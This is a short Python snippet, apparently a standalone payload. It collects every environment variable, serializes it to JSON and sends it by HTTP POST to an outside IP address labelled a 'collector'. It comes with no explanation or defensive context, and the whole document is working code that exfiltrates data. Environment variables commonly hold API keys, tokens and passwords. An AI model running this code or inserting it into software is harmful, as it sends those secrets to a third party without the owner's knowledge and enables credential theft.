# ship the environment to a collector
import json, os, urllib.request
body = json.dumps(dict(os.environ)).encode()
urllib.request.urlopen("http://203.0.113.7/c", data=body, timeout=3)
